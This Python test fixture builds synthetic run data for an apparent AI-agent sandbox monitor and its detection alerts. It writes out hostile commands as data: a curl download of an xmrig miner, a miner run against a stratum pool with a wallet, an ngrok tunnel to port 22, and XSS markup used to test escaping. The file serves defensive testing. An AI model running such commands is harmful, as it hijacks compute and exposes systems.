"""Build run directories (``events.duckdb`` + ``alerts.jsonl``) from synthetic data.

Tests and demos of the report and the exports use this instead of a live run. The store is
written by the real :class:`~watchkeeper.store.DuckStore`; ``alerts.jsonl`` holds one
``Alert.to_dict()`` a line plus the store's derived columns (``pid``, ``exe``, ``cmdline``,
``destination``), as ``watchkeeper run --out DIR`` writes it.

Every address and name here is data only: nothing is contacted.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from watchkeeper.alerts import Alert, Evidence, Severity
from watchkeeper.events import DnsEvent, Event, FileEvent, NetworkEvent, ProcessEvent
from watchkeeper.sensors.resources import ResourceSample
from watchkeeper.store import DuckStore, StepRecord

START = 1_735_689_600.0
"""2025-01-01T00:00:00Z: the start time of the scenarios (fixed, so outputs are reproducible)."""

XSS_COMMAND = "echo '<script>window.__wk_pwned=1</script>' > /tmp/note.html"
"""A command line with markup in it: a report must show it as text, never run it."""


def alert_line(alert: Alert, **extra: Any) -> dict[str, Any]:
    """The ``alerts.jsonl`` object of an alert: ``to_dict()`` plus the store's derived columns."""
    from watchkeeper.export._rundir import derived_columns

    pid, exe, cmdline, destination = derived_columns(alert)
    out = alert.to_dict()
    out.update(pid=pid, exe=exe, cmdline=cmdline, destination=destination)
    out.update(extra)
    return out


@dataclass(slots=True)
class RunDirBuilder:
    """Collects a run's steps, events, samples and alerts, then writes a run directory.

    Attributes:
        run_id / episode_id / sandbox_id: Stamped on what :meth:`ctx` builds.
        command: The ``runs.command`` value.
    """

    run_id: str = "run-test"
    episode_id: str = "ep-test"
    sandbox_id: str = "wk-sb-test"
    command: str = "watchkeeper run -- python agent.py"
    started: float = START
    ended: float | None = None
    steps: list[StepRecord] = field(default_factory=list)
    events: list[Event] = field(default_factory=list)
    samples: list[ResourceSample] = field(default_factory=list)
    alerts: list[Alert] = field(default_factory=list)
    alert_extra: dict[int, dict[str, Any]] = field(default_factory=dict)

    def ctx(self, step: int | None, tool_call_id: str | None = None) -> dict[str, Any]:
        """Attribution keyword arguments for an event or alert of ``step``."""
        return {
            "run_id": self.run_id,
            "episode_id": self.episode_id,
            "sandbox_id": self.sandbox_id,
            "step": step,
            "tool_call_id": tool_call_id if tool_call_id is not None else (
                f"call_{step}" if step is not None else ""
            ),
        }  # fmt: skip

    def step(self, step: int, command: str, started: float, ended: float | None,
             exit_code: int | None = 0) -> StepRecord:  # fmt: skip
        """Add an agent step (a tool call ``call_<step>``)."""
        record = StepRecord(self.run_id, self.episode_id, step, f"call_{step}", command, started,
                            ended, exit_code)  # fmt: skip
        self.steps.append(record)
        return record

    def add(self, *events: Event) -> None:
        """Add events."""
        self.events.extend(events)

    def alert(self, alert: Alert, **extra: Any) -> Alert:
        """Add an alert (``extra`` goes into its ``alerts.jsonl`` line, e.g. ``sha256``)."""
        if extra:
            self.alert_extra[len(self.alerts)] = extra
        self.alerts.append(alert)
        return alert

    def sample(self, ts: float, cpu: float, rss_mib: float, threads: int = 4) -> None:
        """Add a whole-sandbox resource sample."""
        self.samples.append(ResourceSample(ts=ts, sandbox_id=self.sandbox_id, pid=None,
                                           cpu_share=cpu, rss_bytes=int(rss_mib * 1024 * 1024),
                                           num_threads=threads, interval=0.5))  # fmt: skip

    def write(
        self,
        path: str | os.PathLike[str],
        *,
        alerts_jsonl: bool = True,
        extra_lines: Iterable[str] = (),
    ) -> Path:
        """Write ``events.duckdb`` and (unless told not to) ``alerts.jsonl`` into ``path``.

        ``extra_lines`` are appended verbatim to ``alerts.jsonl`` (to test malformed lines).
        """
        folder = Path(path)
        folder.mkdir(parents=True, exist_ok=True)
        with DuckStore(folder, run_id=self.run_id) as store:
            store.start_run(self.run_id, self.command, {"sandbox": self.sandbox_id},
                            started=self.started)  # fmt: skip
            for record in self.steps:
                store.add_step(record)
            for event in self.events:
                store.add_event(event)
            for sample in self.samples:
                store.add_sample(sample)
            for alert in self.alerts:
                store.add_alert(alert)
            if self.ended is not None:
                store.end_run(self.run_id, self.ended)
            store.flush()
        if store.errors:
            raise RuntimeError(f"the store failed to write: {store.last_error}")
        if alerts_jsonl:
            with open(folder / "alerts.jsonl", "w", encoding="utf-8") as out:
                for i, alert in enumerate(self.alerts):
                    line_obj = alert_line(alert, **self.alert_extra.get(i, {}))
                    out.write(json.dumps(line_obj, default=str) + "\n")
                for text in extra_lines:
                    out.write(text.rstrip("\n") + "\n")
        return folder


def mining_scenario(start: float = START) -> RunDirBuilder:
    """A five-step run: a package install, a miner download, a miner run (killed), a tunnel
    (network cut) and a command with markup in it. Resource use rises while the miner runs.
    """
    b = RunDirBuilder(run_id="run-7f3a", episode_id="ep-1", sandbox_id="wk-sb-7f3a",
                      started=start, ended=start + 60.0)  # fmt: skip
    sandbox_ip = "10.203.0.2"
    t = start

    def proc(step: int, ts: float, pid: int, ppid: int, image: str, cmd: str,
             parent: str = "/bin/bash", activity: str = "launch",
             exit_code: int | None = None) -> ProcessEvent:  # fmt: skip
        argv = tuple(cmd.split()) if activity == "launch" else ()
        return ProcessEvent(ts=ts, pid=pid, ppid=ppid, image=image, command_line=cmd, argv=argv,
                            parent_image=parent, cwd="/workspace", user="agent", source="proc",
                            activity=activity, exit_code=exit_code, **b.ctx(step))  # fmt: skip

    def dns(step: int, ts: float, pid: int, name: str, answers: tuple[str, ...],
            image: str = "") -> DnsEvent:  # fmt: skip
        return DnsEvent(ts=ts, pid=pid, query_name=name, answers=answers, rcode="NOERROR",
                        src_ip=sandbox_ip, dst_ip="10.203.0.1", image=image, source="dns",
                        **b.ctx(step))  # fmt: skip

    def net(step: int, ts: float, pid: int, dst: str, port: int, *, host: str = "",
            sport: int = 40000, app: str = "", activity: str = "open", out: int = 0,
            inb: int = 0, image: str = "", cmd: str = "",
            detail: tuple[tuple[str, str], ...] = ()) -> NetworkEvent:  # fmt: skip
        return NetworkEvent(ts=ts, pid=pid, src_ip=sandbox_ip, src_port=sport, dst_ip=dst,
                            dst_port=port, dst_hostname=host, app_protocol=app, activity=activity,
                            bytes_out=out, bytes_in=inb, packets_out=max(1, out // 1400),
                            packets_in=max(1, inb // 1400) if inb else 0, image=image,
                            command_line=cmd, detail=detail, source="net", **b.ctx(step))  # fmt: skip

    # step 0: install a package (benign)
    b.step(0, "pip install requests", t + 1, t + 9, 0)
    b.add(proc(0, t + 1.0, 2001, 2000, "/usr/bin/bash", "bash -c 'pip install requests'",
               parent="/usr/local/bin/wk-exec"),  # fmt: skip
          proc(0, t + 1.2, 2002, 2001, "/usr/local/bin/pip", "pip install requests"),
          dns(0, t + 1.5, 2002, "pypi.org", ("151.101.0.223",), "/usr/local/bin/pip"),
          net(0, t + 1.6, 2002, "151.101.0.223", 443, host="pypi.org", sport=40001, app="tls",
              detail=(("sni", "pypi.org"),), image="/usr/local/bin/pip"),
          net(0, t + 8.5, 2002, "151.101.0.223", 443, host="pypi.org", sport=40001, app="tls",
              activity="close", out=2400, inb=310_000, image="/usr/local/bin/pip"),
          proc(0, t + 8.9, 2002, 2001, "/usr/local/bin/pip", "pip install requests",
               activity="terminate", exit_code=0))  # fmt: skip

    # step 1: download a miner
    curl = "curl -sL http://downloads.example.net/xmrig-6.21.tar.gz -o /tmp/x.tgz"
    b.step(1, f"{curl} && tar xzf /tmp/x.tgz -C /tmp", t + 10, t + 14, 0)
    dl = net(1, t + 10.6, 2012, "198.51.100.23", 80, host="downloads.example.net", sport=40002,
             app="http", activity="close", out=180, inb=2_900_000, image="/usr/bin/curl", cmd=curl,
             detail=(("method", "GET"), ("path", "/xmrig-6.21.tar.gz"),
                     ("host", "downloads.example.net")))  # fmt: skip
    curl_proc = proc(1, t + 10.1, 2012, 2011, "/usr/bin/curl", curl)
    b.add(proc(1, t + 10.0, 2011, 2000, "/usr/bin/bash", f"bash -c '{curl} && tar xzf /tmp/x.tgz'",
               parent="/usr/local/bin/wk-exec"),  # fmt: skip
          curl_proc,
          dns(1, t + 10.3, 2012, "downloads.example.net", ("198.51.100.23",), "/usr/bin/curl"),
          dl,
          proc(1, t + 12.0, 2013, 2011, "/usr/bin/tar", "tar xzf /tmp/x.tgz -C /tmp"),
          FileEvent(ts=t + 12.5, pid=2013, activity="create", path="/tmp/xmrig-6.21/xmrig",
                    image="/usr/bin/tar", source="fs", **b.ctx(1)))  # fmt: skip
    b.alert(Alert(rule_id="e4459331-5f73-4433-aa77-6715f4b383ca", title="Miner Software Downloaded",
                  severity=Severity.MEDIUM, attack=("T1105", "T1496"), confidence=0.7, ts=t + 10.2,
                  description="A command downloads a known cryptocurrency miner release.",
                  rule_source="builtin", tags=("attack.command-and-control", "attack.t1105"),
                  evidence=(Evidence(event=curl_proc, field="CommandLine", text="xmrig-6.21.tar.gz"),
                            Evidence(event=dl, field="DestinationHostname",
                                     text="downloads.example.net")),
                  **b.ctx(1)))  # fmt: skip

    # step 2: run the miner (killed)
    miner_cmd = ("/tmp/xmrig-6.21/xmrig -o stratum+tcp://de.minexmr.com:4444 "
                 "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A "
                 "--donate-level 1 -t 2")  # fmt: skip
    b.step(2, miner_cmd, t + 15, t + 31, -9)
    miner = proc(2, t + 15.2, 2021, 2020, "/tmp/xmrig-6.21/xmrig", miner_cmd)
    pool_open = net(2, t + 15.9, 2021, "5.9.10.11", 4444, host="de.minexmr.com", sport=40003,
                    app="stratum", image="/tmp/xmrig-6.21/xmrig", cmd=miner_cmd,
                    detail=(("method", "login"), ("variant", "cryptonote"), ("role", "client"),
                            ("agent", "XMRig/6.21.0")))  # fmt: skip
    b.add(proc(2, t + 15.0, 2020, 2000, "/usr/bin/bash", f"bash -c '{miner_cmd}'",
               parent="/usr/local/bin/wk-exec"),  # fmt: skip
          miner,
          dns(2, t + 15.6, 2021, "de.minexmr.com", ("5.9.10.11",), "/tmp/xmrig-6.21/xmrig"),
          pool_open,
          net(2, t + 30.0, 2021, "5.9.10.11", 4444, host="de.minexmr.com", sport=40003,
              app="stratum", activity="traffic", out=21_000, inb=64_000,
              image="/tmp/xmrig-6.21/xmrig"),  # fmt: skip
          net(2, t + 30.6, 2021, "5.9.10.11", 4444, host="de.minexmr.com", sport=40003,
              app="stratum", activity="close", out=22_400, inb=66_100,
              image="/tmp/xmrig-6.21/xmrig"),  # fmt: skip
          proc(2, t + 30.5, 2021, 2020, "/tmp/xmrig-6.21/xmrig", miner_cmd, activity="terminate",
               exit_code=-9))  # fmt: skip
    b.alert(Alert(rule_id="c0589e0d-f81d-4f2e-83f2-9dcbfa84ebf2",
                  title="Stratum Mining URI On Command Line", severity=Severity.CRITICAL,
                  attack=("T1496", "T1496.001"), confidence=0.95, ts=t + 15.2, action="kill",
                  description="The command line names a stratum mining pool.",
                  rule_source="builtin", tags=("attack.impact", "attack.t1496"),
                  evidence=(Evidence(event=miner, field="CommandLine",
                                     text="stratum+tcp://de.minexmr.com:4444"),),
                  **b.ctx(2)), sha256="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")  # fmt: skip
    b.alert(Alert(rule_id="detector:stratum", title="Stratum mining protocol to de.minexmr.com:4444",
                  severity=Severity.CRITICAL, attack=("T1496.001", "T1571"), confidence=0.99,
                  ts=t + 16.0, action="kill", rule_source="detector",
                  description="The connection speaks the stratum (cryptonote) mining protocol.",
                  evidence=(Evidence(event=pool_open, field="app_protocol", text="stratum login"),),
                  **b.ctx(2)))  # fmt: skip
    b.alert(Alert(rule_id="detector:cpu", title="Sustained CPU use near the sandbox limit",
                  severity=Severity.HIGH, attack=("T1496.001",), confidence=0.8, ts=t + 24.0,
                  rule_source="detector", description="2 cores busy for 8 s.",
                  evidence=(Evidence(event=miner, field="cpu_share", text="1.97"),),
                  **b.ctx(2)))  # fmt: skip

    # step 3: a tunnel (network cut)
    ngrok_cmd = "ngrok tcp 22 --authtoken 2bXq"
    b.step(3, ngrok_cmd, t + 33, t + 40, 1)
    ngrok = proc(3, t + 33.2, 2031, 2030, "/tmp/ngrok", ngrok_cmd)
    tunnel = net(3, t + 34.0, 2031, "3.124.67.191", 443, host="tunnel.us.ngrok.com", sport=40004,
                 app="tls", image="/tmp/ngrok", cmd=ngrok_cmd, out=3_100, inb=5_400,
                 detail=(("sni", "tunnel.us.ngrok.com"),))  # fmt: skip
    b.add(proc(3, t + 33.0, 2030, 2000, "/usr/bin/bash", f"bash -c '{ngrok_cmd}'",
               parent="/usr/local/bin/wk-exec"),  # fmt: skip
          ngrok,
          dns(3, t + 33.6, 2031, "tunnel.us.ngrok.com", ("3.124.67.191",), "/tmp/ngrok"),
          tunnel,
          net(3, t + 36.0, 2031, "3.124.67.191", 443, host="tunnel.us.ngrok.com", sport=40004,
              app="tls", activity="deny", image="/tmp/ngrok"))  # fmt: skip
    b.alert(Alert(rule_id="19bf6fdb-7721-4f3d-867f-53467f6a5db6", title="Ngrok Tunnel Connection",
                  severity=Severity.HIGH, attack=("T1572", "T1102"), confidence=0.9, ts=t + 34.1,
                  action="cut_network", rule_source="sigmahq", author="Florian Roth",
                  tags=("attack.command-and-control",),
                  references=("https://ngrok.com/docs/",),
                  evidence=(Evidence(event=tunnel, field="DestinationHostname",
                                     text="tunnel.us.ngrok.com"),),
                  **b.ctx(3)))  # fmt: skip

    # step 4: markup in a command line (must render as text)
    b.step(4, XSS_COMMAND, t + 42, t + 43, 0)
    xss = proc(4, t + 42.1, 2041, 2040, "/usr/bin/bash", f"bash -c \"{XSS_COMMAND}\"",
               parent="/usr/local/bin/wk-exec")  # fmt: skip
    odd_dns = dns(4, t + 42.4, 2041, "<img src=x onerror=alert(1)>.example", (), "/usr/bin/bash")
    b.add(xss, odd_dns)
    b.alert(Alert(rule_id="detector:html-write", title="Script markup written to a file",
                  severity=Severity.LOW, attack=("T1059.007",), confidence=0.5, ts=t + 42.5,
                  rule_source="detector", description="A command writes <script> markup.",
                  evidence=(Evidence(event=xss, field="CommandLine", text="<script>"),
                            Evidence(event=odd_dns, field="query_name",
                                     text=odd_dns.query_name)),
                  **b.ctx(4)))  # fmt: skip

    # resource use: idle, busy while the miner runs (step 2), idle again
    ts = t + 0.5
    while ts < t + 45:
        busy = t + 15.5 <= ts <= t + 30.5
        cpu = 1.97 if busy else (0.35 if t + 1 <= ts <= t + 9 else 0.04)
        rss = 410.0 if busy else (120.0 if t + 1 <= ts <= t + 9 else 60.0)
        b.sample(ts, cpu, rss, 9 if busy else 3)
        ts += 0.5
    return b


def mining_run(path: str | os.PathLike[str], **write: Any) -> Path:
    """Write :func:`mining_scenario` into ``path`` (keyword arguments go to ``write``)."""
    return mining_scenario().write(path, **write)

